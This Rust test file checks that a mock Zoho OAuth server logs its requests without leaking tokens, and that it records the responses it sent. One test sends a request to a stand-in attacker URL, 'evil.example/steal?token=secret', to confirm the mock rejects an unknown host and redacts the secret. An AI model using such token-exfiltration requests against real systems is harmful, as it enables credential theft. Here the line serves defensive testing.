use grantkit::testing::{LogEntry, Request};
use serde_json::json;

use crate::support::*;

#[test]
fn every_request_is_logged_without_secrets() {
    let mut zoho = zoho();
    zoho.handle(&Request::get(&authorization_url(&[("state", "secret-state")])));
    let tokens = sign_in(&mut zoho, &[]);
    refresh(&mut zoho, EU, &tokens.refresh);
    zoho.fail("api", "reset", 1).unwrap();
    api(&mut zoho, "https://WWW.zohoapis.com/crm/v8/Leads?fields=id", &tokens.access);
    api(&mut zoho, "https://www.zohoapis.eu/crm/v8/org", &tokens.access);
    let mut query =
        Request::get(&format!("{US}/oauth/v2/token/revoke?grant_type=none&token={}", tokens.refresh));
    query.method = "post".to_owned();
    zoho.handle(&query);
    zoho.handle(&Request::get("https://evil.example/steal?token=secret"));

    let logged: Vec<_> = zoho.log().iter().map(|entry| serde_json::to_value(entry).unwrap()).collect();
    assert_eq!(
        logged,
        [
            json!({ "method": "GET", "host": "accounts.zoho.com", "path": "/oauth/v2/auth", "status": 200 }),
            json!({
                "method": "POST", "host": "accounts.zoho.com", "path": "/oauth/v2/token", "status": 200,
                "grant_type": "authorization_code",
            }),
            json!({
                "method": "POST", "host": "accounts.zoho.eu", "path": "/oauth/v2/token", "status": 200,
                "grant_type": "refresh_token", "error": "invalid_code",
            }),
            json!({
                "method": "GET", "host": "www.zohoapis.com", "path": "/crm/v8/Leads", "status": 200, "fault": "reset",
            }),
            json!({
                "method": "GET", "host": "www.zohoapis.eu", "path": "/crm/v8/org", "status": 401,
                "error": "INVALID_TOKEN",
            }),
            json!({
                "method": "POST", "host": "accounts.zoho.com", "path": "/oauth/v2/token/revoke", "status": 200,
            }),
            json!({
                "method": "GET", "host": "evil.example", "path": "/steal", "status": 0, "fault": "unknown_host",
            }),
        ]
    );
    let shown = format!("{:?}", zoho.log());
    for secret in [&tokens.access, &tokens.refresh, "secret"] {
        assert!(!shown.contains(secret));
    }
}

#[test]
fn the_log_has_the_response_that_was_sent() {
    let mut zoho = zoho();
    let tokens = sign_in(&mut zoho, &[]);
    zoho.fail("token", "throttle", 1).unwrap();
    refresh(&mut zoho, US, &tokens.refresh);
    assert_eq!(
        zoho.log().last(),
        Some(&LogEntry {
            method: "POST".to_owned(),
            host: "accounts.zoho.com".to_owned(),
            path: "/oauth/v2/token".to_owned(),
            grant_type: Some("refresh_token".to_owned()),
            status: 400,
            error: Some("Access Denied".to_owned()),
            fault: None,
        })
    );
}
